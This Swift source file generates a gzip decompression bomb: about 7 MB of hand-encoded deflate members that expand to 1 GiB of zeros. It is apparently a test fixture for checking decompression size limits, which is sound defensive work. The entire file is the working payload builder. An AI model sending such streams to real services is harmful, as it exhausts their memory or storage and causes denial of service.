/// A valid gzip stream that expands to 1 GiB of zero bytes, built without a compressor: 1,024 gzip members
/// (RFC 1952: a decompressor joins them) of 1 MiB each, each one deflate block with fixed Huffman codes
/// (RFC 1951) holding a literal zero and back-references of length 258 at distance 1. About 7 MB.
public enum GzipBomb {
    /// What the stream expands to.
    public static let expandedBytes = 1 << 30
    static let memberBytes = 1 << 20

    /// The stream (built once).
    public static let body: [UInt8] = {
        let one = member(zeros: memberBytes)
        var stream: [UInt8] = []
        stream.reserveCapacity(one.count * (expandedBytes / memberBytes))
        for _ in 0..<(expandedBytes / memberBytes) { stream += one }
        return stream
    }()

    /// One gzip member holding `zeros` zero bytes.
    static func member(zeros: Int) -> [UInt8] {
        var bits = BitWriter()
        bits.write(1, count: 1)  // BFINAL
        bits.write(1, count: 2)  // BTYPE 01: fixed Huffman codes
        // Literal/length codes 0...143 are 8 bits from 0x30; 280...287 are 8 bits from 0xC0; 256...279 are 7 bits from 0.
        bits.writeCode(0x30, count: 8)  // the literal 0
        var remaining = zeros - 1
        while remaining >= 258 {
            bits.writeCode(0xC0 + (285 - 280), count: 8)  // length 258 (code 285, no extra bits)
            bits.writeCode(0, count: 5)  // distance code 0: distance 1
            remaining -= 258
        }
        for _ in 0..<remaining { bits.writeCode(0x30, count: 8) }
        bits.writeCode(0, count: 7)  // end of block (256)
        let deflate = bits.finish()

        var member: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]  // magic, deflate, no flags, no time, unknown OS
        member += deflate
        member += littleEndian(crc32OfZeros(zeros))
        member += littleEndian(UInt32(truncatingIfNeeded: zeros))
        return member
    }

    static func littleEndian(_ value: UInt32) -> [UInt8] {
        (0..<4).map { UInt8(truncatingIfNeeded: value >> (8 * $0)) }
    }

    /// CRC-32 (IEEE, reflected) of `count` zero bytes.
    static func crc32OfZeros(_ count: Int) -> UInt32 {
        // With a zero input byte the table index is the low byte of the register.
        let table: [UInt32] = (0..<256).map { index in
            var value = UInt32(index)
            for _ in 0..<8 { value = value & 1 == 1 ? 0xEDB8_8320 ^ (value >> 1) : value >> 1 }
            return value
        }
        var crc: UInt32 = 0xFFFF_FFFF
        for _ in 0..<count { crc = table[Int(crc & 0xFF)] ^ (crc >> 8) }
        return crc ^ 0xFFFF_FFFF
    }

    /// Bits packed from the least significant end of each byte, as deflate stores them.
    struct BitWriter {
        var bytes: [UInt8] = []
        var buffer: UInt32 = 0
        var used = 0

        /// Writes `count` bits of `value`, least significant first (header fields, extra bits).
        mutating func write(_ value: UInt32, count: Int) {
            buffer |= value << used
            used += count
            while used >= 8 {
                bytes.append(UInt8(truncatingIfNeeded: buffer))
                buffer >>= 8
                used -= 8
            }
        }

        /// Writes a Huffman code, most significant bit first.
        mutating func writeCode(_ code: UInt32, count: Int) {
            var reversed: UInt32 = 0
            for bit in 0..<count { reversed |= ((code >> bit) & 1) << (count - 1 - bit) }
            write(reversed, count: count)
        }

        mutating func finish() -> [UInt8] {
            if used > 0 { bytes.append(UInt8(truncatingIfNeeded: buffer)) }
            return bytes
        }
    }
}
